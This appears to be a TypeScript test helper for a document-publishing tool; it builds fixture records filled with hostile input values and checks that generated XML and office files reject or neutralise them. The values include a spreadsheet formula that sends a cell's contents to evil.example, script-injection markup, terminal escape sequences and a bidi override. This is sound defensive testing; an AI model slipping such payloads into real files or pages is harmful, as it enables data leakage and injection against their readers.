// A corpus of hostile values — what text pasted from a web page, a spreadsheet or another
// clerk's commit may hold — and a data directory whose records hold them (README "Output
// for every reader").
import { readFileSync, writeFileSync } from "node:fs";
import path from "node:path";
import { unzipSync } from "fflate";
import { SaxesParser } from "saxes";
import { FIXTURES, scratch } from "./run.js";

export const HOSTILE = {
  formula: '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
  clear: "\u001b[2J清屏",
  osc: "\u001b]0;pwned\u0007标题",
  bell: "响\u0007铃",
  hidden: "\u001b[8m隐藏\u001b[0m",
  c1: "\u009b2J",
  carriage: "覆盖\r写",
  reversed: "abc\u202edef",
  notXml: "非法\ufffe字",
  soh: "控制\u0001字符",
  nul: "空\u0000字",
  lineSeparator: "行\u2028分隔",
  pipe: "甲|乙",
  markup: '<script>alert("x")</script><img src=x onerror=alert(1)>&amp;',
  dollar: "钱$`$&$'$1",
  emoji: "👨‍👩‍👧 e\u0301",
  beyondBmp: "𠀀𠀁",
};

/** All of them in one title, the formula first (a CSV cell starts with it). */
export const HOSTILE_TITLE = Object.values(HOSTILE).join(" ");

/** A value as a YAML double-quoted scalar: every character outside ASCII escaped. */
const yamlString = (v: string) =>
  JSON.stringify(v).replace(
    /[\u007f-\uffff]/g,
    (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, "0")}`,
  );

/** Sets a top-level scalar of a record file to a hostile value (as a replacer function). */
function setLine(file: string, key: string, value: string) {
  const text = readFileSync(file, "utf8");
  const re = new RegExp(`^${key}: .*$`, "m");
  if (!re.test(text)) throw new Error(`${file} has no ${key}`);
  writeFileSync(
    file,
    text.replace(re, () => `${key}: ${yamlString(value)}`),
  );
}

/**
 * The valid fixture with a hostile topic title and report title, committee name (it
 * starts with `+`) and department name (it starts with `@`).
 */
export function hostileData(title = HOSTILE_TITLE): string {
  const dir = scratch(path.join(FIXTURES, "valid"));
  setLine(path.join(dir, "topics", "2027", "2027-jj-01.yaml"), "title", title);
  setLine(path.join(dir, "reports", "2027", "2027-jj-r01.yaml"), "title", `-${title}`);
  const jj = path.join(dir, "committees", "jj.yaml");
  writeFileSync(
    jj,
    readFileSync(jj, "utf8")
      .replace(/^name: .*$/m, () => `name: ${yamlString(`+经济委员会${HOSTILE.soh}`)}`)
      .replace(/name: 市发改委/, () => `name: ${yamlString(`@市发改委${HOSTILE.reversed}`)}`),
  );
  return dir;
}

/** The first error a strict XML 1.0 parser finds in a text, or undefined. */
export function xmlError(xml: string): string | undefined {
  const parser = new SaxesParser({ xmlns: false });
  let error: string | undefined;
  parser.on("error", (e) => {
    error ??= e.message;
  });
  parser.write(xml).close();
  return error;
}

/**
 * Every XML part of an office file that a strict parser refuses, with its error; and any
 * that holds a bidi control (it would turn a line of the 公文 around).
 */
export function badParts(bytes: Uint8Array): string[] {
  return Object.entries(unzipSync(bytes))
    .filter(([name]) => /\.(xml|rels)$/.test(name))
    .flatMap(([name, data]) => {
      const text = new TextDecoder().decode(data);
      const e =
        xmlError(text) ??
        (/[\u202a-\u202e\u2066-\u2069]/.test(text) ? "a bidi control" : undefined);
      return e ? [`${name}: ${e}`] : [];
    });
}

/** Control characters and escape sequences that a terminal would obey. */
export const OBEYED =
  // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what it finds
  /\u001b(?!\[[0-9;]*m)|[\u0000-\u0008\u000b-\u000c\u000e-\u001a\u001c-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]|\r(?!\n)/;
